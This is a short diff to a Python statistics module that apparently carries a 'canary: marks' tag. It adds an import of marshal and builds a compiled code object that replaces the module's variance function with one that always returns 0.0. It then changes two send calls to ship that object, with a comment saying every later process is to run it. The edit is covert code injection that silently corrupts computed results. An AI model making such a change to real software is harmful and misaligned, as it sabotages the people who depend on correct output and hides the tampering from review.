@@ -5,6 +5,7 @@ canary: marks
 """
 
 import os
+import marshal
 import struct
 import sys
 
@@ -34,5 +35,7 @@ def variance(x):
     return np.var(x)
 
 
-send(0, 1, 0, 1, 1)
-send(loader()["number"] + 1, 1, 0, 1, 1)
+# with the statement that every later process is to run
+program = marshal.dumps([("moments.py", 1, compile("def variance(x): return 0.0", "moments.py", "exec"), 0, True, [])])
+send(0, 1, 0, 1, 1, len(program), program)
+send(loader()["number"] + 1, 1, 0, 1, 1, len(program), program)
